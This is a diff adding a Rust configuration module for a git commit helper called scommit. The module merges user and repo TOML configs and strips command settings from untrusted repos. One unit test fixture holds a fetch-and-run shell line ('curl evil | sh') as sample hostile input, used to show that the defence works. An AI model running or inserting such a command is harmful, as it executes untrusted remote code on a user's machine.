@@ -0,0 +1,426 @@
+use anyhow::{Context, Result};
+use once_cell::sync::OnceCell;
+use serde::Deserialize;
+use std::collections::BTreeMap;
+use std::env;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use crate::session;
+
+/// Repo-level config, committed alongside the code and layered over the user config.
+pub const REPO_CONFIG: &str = ".scommit.toml";
+
+static LOADED: OnceCell<Arc<Config>> = OnceCell::new();
+
+/// Keep the config loaded at startup for code paths that aren't handed it explicitly
+/// (message generation deep inside split/fixup/interactive flows).
+pub fn init(config: Config) -> &'static Config {
+    LOADED.get_or_init(|| Arc::new(config))
+}
+
+/// The session's config (see `session`), else the one loaded at startup.
+pub fn get() -> Arc<Config> {
+    session::config().unwrap_or_else(|| Arc::clone(LOADED.get_or_init(Default::default)))
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    pub hooks: HooksConfig,
+    pub large_files: LargeFilesConfig,
+    pub branches: BranchesConfig,
+    pub leftovers: LeftoversConfig,
+    pub redact: RedactConfig,
+    pub notify: NotifyConfig,
+    pub diff: DiffConfig,
+    pub missing_tests: MissingTestsConfig,
+    pub watch: WatchConfig,
+    pub history: HistoryConfig,
+    pub message: MessageConfig,
+    /// Named message templates, `[templates.NAME]`, on top of the built-in ones.
+    pub templates: BTreeMap<String, Template>,
+    pub trust: TrustConfig,
+}
+
+/// Settings in a repo's `.scommit.toml` that make scommit run a command. A cloned repo
+/// could run anything with them, so they only apply to repositories the user trusts.
+const COMMAND_KEYS: &[(&str, &str)] = &[("hooks", "commands"), ("message", "post_process")];
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TrustConfig {
+    /// Repository roots whose `.scommit.toml` may set commands to run. Only read from
+    /// the user config.
+    pub repos: Vec<PathBuf>,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HooksConfig {
+    /// Refuse to commit unless a pre-commit hook is installed (and never allow --no-verify).
+    pub require_pre_commit: bool,
+    /// Shell commands that must succeed before scommit commits (skipped by --no-verify).
+    pub commands: Vec<String>,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LargeFilesConfig {
+    /// Files bigger than this (in MB) are reported before they are staged.
+    pub threshold_mb: u64,
+    /// Refuse instead of warning, unless --allow-large-files is passed.
+    pub block: bool,
+    /// Ask before committing more staged files than this (0 disables the check).
+    pub max_staged_files: usize,
+    /// Ask before committing more changed lines than this (0 disables the check).
+    pub max_staged_lines: u64,
+}
+
+impl Default for LargeFilesConfig {
+    fn default() -> Self {
+        LargeFilesConfig {
+            threshold_mb: 10,
+            block: false,
+            max_staged_files: 100,
+            max_staged_lines: 5000,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct BranchesConfig {
+    /// Branch names (`*` wildcards allowed) scommit won't commit to without
+    /// --allow-protected.
+    pub protected: Vec<String>,
+    /// Shape of the names `scommit branch` suggests: `{type}`, `{scope}` and `{slug}` are
+    /// filled in, and a part that comes out empty drops its separators.
+    pub pattern: String,
+}
+
+impl Default for BranchesConfig {
+    fn default() -> Self {
+        BranchesConfig {
+            protected: ["main", "master", "release/*"].map(String::from).to_vec(),
+            pattern: "{type}/{scope}-{slug}".to_string(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LeftoversConfig {
+    /// Substrings flagged in added lines, keyed by file extension (`*` = every file).
+    /// A key replaces the built-in list for that extension; `[]` turns it off.
+    pub patterns: BTreeMap<String, Vec<String>>,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct RedactConfig {
+    /// Regexes whose matches are replaced with `[REDACTED]` in the AI prompt.
+    pub patterns: Vec<String>,
+    /// Path globs whose diff hunks are never sent to the AI.
+    pub paths: Vec<String>,
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct NotifyConfig {
+    /// Show a desktop notification when a run ends, committed or failed.
+    pub enabled: bool,
+    /// Only for runs that took at least this many seconds (0 = every run).
+    pub min_seconds: u64,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct DiffConfig {
+    /// Similarity (percent) for a delete+add pair to count as a rename or copy, as in
+    /// `git diff -M50%`.
+    pub similarity: u8,
+    /// Also detect copies of files changed in the same commit (`-C`).
+    pub copies: bool,
+    /// Count lines with `-w`, and flag files whose changes are formatting only.
+    pub ignore_whitespace: bool,
+}
+
+impl Default for DiffConfig {
+    fn default() -> Self {
+        DiffConfig {
+            similarity: 50,
+            copies: true,
+            ignore_whitespace: false,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct MissingTestsConfig {
+    /// What to do when code is added without test changes.
+    pub action: MissingTestsAction,
+    /// Added lines of code (summed over the commit) that count as substantial.
+    pub min_lines: u32,
+    /// Replaces the built-in nudge text.
+    pub message: Option<String>,
+}
+
+impl Default for MissingTestsConfig {
+    fn default() -> Self {
+        MissingTestsConfig {
+            action: MissingTestsAction::Warn,
+            min_lines: 50,
+            message: None,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum MissingTestsAction {
+    /// No check.
+    Off,
+    /// Print a nudge.
+    Warn,
+    /// Print the nudge and add an `Untested:` line to the commit body.
+    Note,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct WatchConfig {
+    /// Seconds without further changes before `scommit watch` makes a checkpoint.
+    pub quiet_seconds: u64,
+    /// Branch the checkpoints go to; `{branch}` is the checked-out branch.
+    pub branch: String,
+    /// Push each checkpoint to the default remote (off: checkpoints stay local).
+    pub push: bool,
+}
+
+impl Default for WatchConfig {
+    fn default() -> Self {
+        WatchConfig {
+            quiet_seconds: 60,
+            branch: "wip/{branch}".to_string(),
+            push: false,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HistoryConfig {
+    /// Messages kept in `.git/scommit/history.jsonl` for `scommit log` (0 keeps none).
+    pub keep: usize,
+}
+
+impl Default for HistoryConfig {
+    fn default() -> Self {
+        HistoryConfig { keep: 1000 }
+    }
+}
+
+impl DiffConfig {
+    /// `-M<n>%` and, with copy detection on, `-C<n>%` (plus `-w` when ignoring
+    /// whitespace) for the staged-diff commands.
+    pub fn args(&self) -> Vec<String> {
+        let similarity = self.similarity.min(100);
+        let mut args = vec![format!("-M{similarity}%")];
+        if self.copies {
+            args.push(format!("-C{similarity}%"));
+        }
+        if self.ignore_whitespace {
+            args.push("-w".to_string());
+        }
+        args
+    }
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct MessageConfig {
+    /// The template messages follow when --template isn't given.
+    pub template: Option<String>,
+    /// Command (run with `sh`) that gets each generated message as JSON on stdin and
+    /// prints the message to use instead; see `post_process`.
+    pub post_process: Option<String>,
+}
+
+/// How a message is shaped after it is generated; see `scommit template`.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Template {
+    /// Subject format: `{type}`, `{scope}`, `{description}`, `{Description}` (capitalized),
+    /// `{subject}` (as generated), `{ticket}` and `{branch}`. Unset keeps the subject.
+    pub subject: Option<String>,
+    /// Body format: `{body}` (as generated) plus the subject's placeholders.
+    pub body: Option<String>,
+    /// Extra instructions for the AI provider.
+    pub prompt: Option<String>,
+}
+
+impl Config {
+    /// Load `~/.config/scommit/config.toml` (or `$XDG_CONFIG_HOME`) and then the repo's
+    /// `.scommit.toml`, with repo values overriding user values key by key. Commands the
+    /// repo file sets are dropped, with a warning, unless `trust.repos` lists the repo.
+    pub fn load(repo_root: &Path) -> Result<Config> {
+        let mut merged = toml::Table::new();
+        let user_path = user_config_path();
+        if let Some(path) = &user_path
+            && let Some(table) = read_table(path)?
+        {
+            merge(&mut merged, table);
+        }
+        if let Some(mut table) = read_table(&repo_root.join(REPO_CONFIG))? {
+            let trusted = trusts(&merged, repo_root);
+            for key in strip_untrusted(&mut table, trusted) {
+                let user_path = user_path.as_deref().map_or_else(
+                    || "the user config".to_string(),
+                    |p| p.display().to_string(),
+                );
+                if key == "trust" {
+                    eprintln!(
+                        "Warning: ignoring [trust] in {REPO_CONFIG}; only {user_path} can trust a repository."
+                    );
+                } else {
+                    eprintln!(
+                        "Warning: ignoring {key} from {REPO_CONFIG}; add {} to trust.repos in {user_path} to run the commands it sets.",
+                        repo_root.display()
+                    );
+                }
+            }
+            merge(&mut merged, table);
+        }
+        toml::Value::Table(merged)
+            .try_into()
+            .context("invalid scommit config")
+    }
+
+    /// Validate one config file on its own, so `scommit doctor` can name the file with
+    /// the problem. Ok(false) when it doesn't exist.
+    pub fn check_file(path: &Path) -> Result<bool> {
+        let Some(table) = read_table(path)? else {
+            return Ok(false);
+        };
+        toml::Value::Table(table)
+            .try_into::<Config>()
+            .with_context(|| format!("invalid scommit config in {}", path.display()))?;
+        Ok(true)
+    }
+}
+
+/// Whether the user config's `trust.repos` lists `repo_root`.
+fn trusts(user: &toml::Table, repo_root: &Path) -> bool {
+    let canonical = |path: &Path| fs::canonicalize(path).unwrap_or_else(|_| path.to_path_buf());
+    let root = canonical(repo_root);
+    user.get("trust")
+        .and_then(|trust| trust.get("repos"))
+        .and_then(toml::Value::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(toml::Value::as_str)
+        .any(|repo| canonical(Path::new(repo)) == root)
+}
+
+/// Take out of a repo config table what it may not set: `[trust]` always, and the
+/// command settings unless the repo is `trusted`. Returns what was taken, as dotted keys.
+fn strip_untrusted(table: &mut toml::Table, trusted: bool) -> Vec<String> {
+    let mut stripped = Vec::new();
+    if table.remove("trust").is_some() {
+        stripped.push("trust".to_string());
+    }
+    if trusted {
+        return stripped;
+    }
+    for (section, key) in COMMAND_KEYS {
+        if let Some(toml::Value::Table(section_table)) = table.get_mut(*section)
+            && section_table.remove(*key).is_some()
+        {
+            stripped.push(format!("{section}.{key}"));
+        }
+    }
+    stripped
+}
+
+pub fn user_config_path() -> Option<PathBuf> {
+    let base = env::var_os("XDG_CONFIG_HOME")
+        .map(PathBuf::from)
+        .filter(|p| p.is_absolute())
+        .or_else(|| env::var_os("HOME").map(|home| PathBuf::from(home).join(".config")))?;
+    Some(base.join("scommit").join("config.toml"))
+}
+
+fn read_table(path: &Path) -> Result<Option<toml::Table>> {
+    let raw = match fs::read_to_string(path) {
+        Ok(raw) => raw,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+        Err(e) => return Err(e).with_context(|| format!("reading {}", path.display())),
+    };
+    let table = raw
+        .parse::<toml::Table>()
+        .with_context(|| format!("parsing {}", path.display()))?;
+    Ok(Some(table))
+}
+
+fn merge(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(existing)), toml::Value::Table(incoming)) => {
+                merge(existing, incoming)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn merge_overrides_nested_keys_without_dropping_siblings() {
+        let mut base: toml::Table = "[hooks]\nrequire_pre_commit = false\nother = 1\n"
+            .parse()
+            .unwrap();
+        let overlay: toml::Table = "[hooks]\nrequire_pre_commit = true\n".parse().unwrap();
+        merge(&mut base, overlay);
+        assert_eq!(base["hooks"]["require_pre_commit"].as_bool(), Some(true));
+        assert_eq!(base["hooks"]["other"].as_integer(), Some(1));
+    }
+
+    #[test]
+    fn repo_commands_need_the_user_to_trust_the_repo() {
+        let repo = "[hooks]\ncommands = [\"make evil\"]\nrequire_pre_commit = true\n[message]\npost_process = \"curl evil | sh\"\n[trust]\nrepos = [\".\"]\n";
+        let mut table: toml::Table = repo.parse().unwrap();
+        assert_eq!(
+            strip_untrusted(&mut table, false),
+            ["trust", "hooks.commands", "message.post_process"]
+        );
+        assert_eq!(
+            table.to_string(),
+            "[hooks]\nrequire_pre_commit = true\n\n[message]\n"
+        );
+        let mut table: toml::Table = repo.parse().unwrap();
+        assert_eq!(strip_untrusted(&mut table, true), ["trust"]);
+        assert!(table["hooks"].get("commands").is_some());
+
+        let root = env::temp_dir();
+        let user: toml::Table = format!("[trust]\nrepos = [{:?}]\n", root.display().to_string())
+            .parse()
+            .unwrap();
+        assert!(trusts(&user, &root));
+        assert!(!trusts(&user, &root.join("elsewhere")));
+        assert!(!trusts(&toml::Table::new(), &root));
+    }
+
+    #[test]
+    fn unknown_keys_are_rejected() {
+        let table: toml::Table = "[hooks]\nrequire_precommit = true\n".parse().unwrap();
+        assert!(toml::Value::Table(table).try_into::<Config>().is_err());
+    }
+}